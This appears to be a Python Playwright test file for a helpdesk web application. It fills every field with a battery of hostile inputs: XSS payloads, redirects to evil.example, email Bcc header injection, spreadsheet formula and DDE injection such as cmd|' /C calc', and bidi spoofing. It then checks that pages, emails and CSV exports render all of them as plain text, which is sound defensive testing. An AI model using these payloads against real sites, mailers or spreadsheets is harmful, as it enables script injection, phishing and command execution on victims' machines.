"""Whatever is written into whatever field stays a text: on every page, in every letter and in every export."""
import csv
import io
import urllib.parse

from playwright.sync_api import expect

from desk import Refused
from window import Window

RUNS = "window.journeyRan="
BATTERY = [
    f"<script>{RUNS}'tag'</script>",
    f"\"><img src=x onerror={RUNS}'double'>",
    f"'><svg/onload={RUNS}'single'>",
    f"</textarea><script>{RUNS}'textarea'</script>",
    f"</title></style><script>{RUNS}'title'</script>",
    f"</script><script>{RUNS}'json'</script>",
    f"--><!--><script>{RUNS}'comment'</script>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUNS}'math'&gt;\">",
    f"javascript:{RUNS}'address'//",
    f"\" autofocus onfocus=\"{RUNS}'attribute'\" x=\"",
    f"' onmouseover='{RUNS}1' style='position:fixed;inset:0' y='",
    f"{{{{constructor.constructor('{RUNS}1')()}}}}${{{RUNS}1}}<%= 1 %>#{{1}}[[${{1}}]]",
    f"<iframe srcdoc=\"<script>parent.journeyRan='frame'</script>\"></iframe><object data=\"data:text/html,x\">",
    "<base href=\"http://evil.example/\"><meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<style>@import 'http://evil.example/x.css'</style><link rel=stylesheet href=//evil.example/x.css>",
    "<form action=http://evil.example><button formaction=//evil.example name=csrf>",
    "&lt;script&gt; &amp; &#60;b&#62; %3Cscript%3E \\u003cscript\\u003e ＜script＞ \ufeff<b>",
    "abc\u202egnp.exe\u2066 \u200b\u200d\u00ad zero\u0301\u0301\u0301\u0301",
    "Hello\r\nBcc: everybody@evil.example\r\n\r\n<p>body</p>",
    "=HYPERLINK(\"http://evil.example\",\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "x,\"y\"\r\n=1+1",
]
ADDRESSES = ["/queue?team=", "/queue?grade=", "/queue?risk=", "/sign-in?to=", "/tickets/", "/t/", "/link/"]
# A text that turns the direction must not turn what stands beside it.
TURNED = """() => {
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT), found = [];
  while (walk.nextNode()) {
    let at = walk.currentNode.parentElement;
    if (!walk.currentNode.data.includes("\\u202e") || at.closest("script, option, title, textarea")) continue;
    const style = getComputedStyle(at);
    if (style.display.startsWith("inline") && !style.unicodeBidi.match(/isolate|plaintext/)) found.push(at.outerHTML.slice(0, 90));
  }
  return found;
}"""


def travel(desk, browser):
    desk.record("team", "battery", title_zh=BATTERY[0], title_en=BATTERY[1], title_ja=BATTERY[2], title_ko=BATTERY[17])
    desk.record("tag", "battery", title_en=BATTERY[4], title_zh=BATTERY[5])
    desk.record("category", "battery", title_en=BATTERY[3], title_zh=BATTERY[17], grades="tier-1")
    desk.record("site", "battery", title_en=BATTERY[9], title_zh=BATTERY[9], zone="Asia/Shanghai", region=BATTERY[1])
    desk.person("battery", BATTERY[17] + BATTERY[1], teams="battery")
    tickets = {text: filled(desk, number, text) for number, text in enumerate(BATTERY)}

    agent = Window(browser, desk)
    agent.signs_in("battery")
    for path in ("/queue", "/queue?whose=my-teams", "/promises", "/submit"):
        agent.goes(path)
        is_literal(agent)
    agent.goes("/queue?team=battery")
    shown = agent.page.locator("#queue tbody th a").evaluate_all("links => links.map((each) => each.textContent)")
    assert sorted(map(plain, shown)) == sorted(map(heading, BATTERY)), f"the queue shows {shown}"
    for text, ticket in tickets.items():
        agent.goes(f"/tickets/{ticket}")
        expect(agent.page.locator("#happened .note")).to_have_count(1)
        for place in ("h1", ".first-words blockquote", "#happened .note .words", "#happened .desk .words"):
            seen = agent.page.locator(place).first.text_content()
            assert plain(seen) == (heading if place == "h1" else plain)(text), f"{place} of {ticket} shows {seen!r} for {text!r}"
        is_literal(agent)
    customers(desk, browser, tickets)
    addresses(agent)
    forms(agent, tickets)
    agent.close()
    letters(desk)
    exports(desk)


def filled(desk, number, text):
    """A ticket that has the text wherever it may have one."""
    customer = f"battery-{number}"
    desk.record("customer", customer, name=text, note=text, region="Shanghai", address=text, language="en",
                email=f"{customer}@customer.example", number=text[:40].strip())
    desk.record("contact", customer, name=text, customer=customer, department=text[:80])
    ticket = desk.ticket(customer, text, text, category="battery", team="battery", contact=customer, site="battery")
    desk.ask("POST", f"/tickets/{ticket}/messages", {"text": text})
    desk.ask("POST", f"/tickets/{ticket}/messages", {"text": text, "fromCustomer": True})
    desk.ask("POST", f"/tickets/{ticket}/notes", {"text": text, "mentions": ["battery"]})
    desk.ask("PUT", f"/tickets/{ticket}/tags/battery")
    desk.ask("POST", f"/tickets/{ticket}/pause", {"waiting": "customer", "text": text})
    desk.event(ticket, "escalated", text=text)
    name = urllib.parse.quote(text.replace("/", "")[:50], safe="")
    try:
        desk.ask("POST", f"/tickets/{ticket}/attachments/{name}", text.encode())
    except Refused as refusal:
        assert refusal.status in (404, 422), refusal
    desk.ask("POST", f"/tickets/{ticket}/attachments/page.html", b"<script>window.journeyRan='attachment'</script>")
    return ticket


def customers(desk, browser, tickets):
    """A customer's pages, the page behind a ticket's link, and the certificate, which keeps its data in a script."""
    for number in (0, 5, 17):
        ticket = tickets[BATTERY[number]]
        desk.ask("POST", f"/tickets/{ticket}/resolution", {"text": BATTERY[number]})
        desk.finds(f'"battery-{number}@customer.example"', f"battery-{number}")
        guest = Window(browser, desk)
        guest.comes_in_by_letter(f"battery-{number}@customer.example")
        is_literal(guest)
        guest.goes(f"/tickets/{ticket}")
        is_literal(guest)
        desk.certificate(ticket)
        guest.goes(f"/tickets/{ticket}/certificate")
        expect(guest.page.locator("[role=status]")).to_have_attribute("data-result", "verified")
        # What somebody attached is never opened as a page.
        answer = guest.context.request.get(attachment(desk, ticket))
        assert answer.headers["content-type"] == "application/octet-stream" and "attachment" in answer.headers["content-disposition"]
        link = desk.ask("POST", f"/tickets/{ticket}/links", {})["link"].split("/")[-1]
        guest.close()
        stranger = Window(browser, desk)
        stranger.goes(f"/t/{link}")
        is_literal(stranger)
        assert BATTERY[number] not in stranger.page.content(), "a ticket's link tells what somebody wrote"
        stranger.close()


def attachment(desk, ticket):
    items = desk.ask("GET", f"/tickets/{ticket}/messages?limit=100")["items"]
    position, name = next((each["position"], file["name"] if isinstance(file, dict) else file)
                          for each in items for file in each["attachments"] if "page.html" in str(file))
    return f"/api/v1/tickets/{ticket}/attachments/{position}/{name}"


def addresses(agent):
    """Parts of addresses, the cookie of looks, and what a browser kept by itself."""
    agent.context.add_cookies([{"name": "yinuo-look", "value": "zh\".dark.\"><script>", "url": agent.desk.address}])
    view = urllib.parse.quote("/queue?whose=mine", safe="")
    # A cookie has room for a few.
    for first in range(0, len(BATTERY), 5):
        names = BATTERY[first:first + 5]
        kept = "&".join(f"{urllib.parse.quote(name, safe='')}={view}" for name in names)
        agent.context.add_cookies([{"name": "yinuo-views", "value": kept, "url": agent.desk.address}])
        agent.goes("/queue")
        expect(agent.page.locator(".views li a")).to_have_count(len(names))
        is_literal(agent)
    agent.context.clear_cookies(name="yinuo-views")
    with agent.wishing("404", "400"):
        for number, text in enumerate(BATTERY):
            part = urllib.parse.quote(text, safe="")
            for path in ("/search?q=", ADDRESSES[number % len(ADDRESSES)]):
                agent.goes(path + part)
                assert urllib.parse.urlsplit(agent.page.url).netloc == agent.desk.address[7:], f"{path} with {text} leads to {agent.page.url}"
                is_literal(agent)


def forms(agent, tickets):
    """What is refused or met by a conflict is shown again; what is taken is shown by the page that follows."""
    ticket = tickets[BATTERY[0]]
    with agent.wishing("422", "409", "404", "401"):
        agent.goes("/submit")
        agent.page.locator("input[name=subject]").fill(BATTERY[1])
        agent.page.locator("textarea[name=text]").fill(BATTERY[3])
        agent.page.locator("input[name=customer]").fill("<script>")
        agent.page.locator("input[name=reach][value=all]").check()
        agent.page.locator("input[name=urgency][value=high]").check()
        agent.page.locator("form.submit button").click()
        expect(agent.page.locator("[role=alert]")).to_be_visible()
        assert agent.page.locator("textarea[name=text]").input_value() == BATTERY[3]
        is_literal(agent)
        agent.goes(f"/tickets/{ticket}")
        agent.page.locator("input[name=version]").first.evaluate("field => field.value = 1")
        agent.page.locator("form[data-deed=reply] textarea").fill(BATTERY[3])
        agent.page.locator("form[data-deed=reply] button").click()
        agent.page.wait_for_load_state()
        is_literal(agent)
    agent.page.locator(".menu summary").click()
    agent.page.locator("form[action='/sign-out'] button").click()
    agent.page.wait_for_url("**/sign-in")
    with agent.wishing("401", "422"):
        agent.page.locator("input[name=login]").fill(BATTERY[1])
        agent.page.locator("input[name=password]").fill(BATTERY[0])
        agent.page.locator("form:has(input[name=password]) button").click()
        expect(agent.page.locator("[role=alert]")).to_be_visible()
        is_literal(agent)


def letters(desk):
    """No letter has a line, a header or an element that somebody wrote."""
    for letter in desk.mailbox.letters:
        assert not letter["defects"], letter
        names = {name.lower() for name, _ in letter["headers"]}
        assert "bcc" not in names and len(letter["to"]) == 1, letter
        for text in ("<script", "onerror=", "evil.example/"):
            assert text not in letter["html"].lower(), letter["html"]


def exports(desk):
    """No cell of a table is run as a formula by whoever opens it."""
    for kind in ("customer", "contact", "agent", "team", "category", "site", "tag"):
        table = desk.ask("GET", f"/records/{kind}/export?personal=true").decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(table, newline="")))
        assert all(len(row) == len(rows[0]) for row in rows), f"a {kind} has broken out of its line"
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{kind}: {cell!r} is run as a formula"


def is_literal(window):
    """Nothing of the battery became an element, and nothing that turns direction turns its neighbours."""
    page = window.page
    found = page.locator("img, iframe, object, base, math, style, a[href^='javascript:'], [onerror], [onload], [onfocus], [onmouseover], "
                         "meta[http-equiv=refresh], [action*='evil'], [formaction]").evaluate_all("all => all.map((each) => each.outerHTML)")
    if "/certificate" not in page.url:
        assert not found, f"{page.url} has {found}"
    turned = page.evaluate(TURNED)
    assert not turned, f"{page.url}: turns what stands beside it: {turned}"


def plain(text):
    """As a page shows it: lines end in one way, and blanks at the ends are cut."""
    return " ".join(text.split())


def heading(text):
    """Where there is one line for it, the first is shown."""
    return plain(text.splitlines()[0])
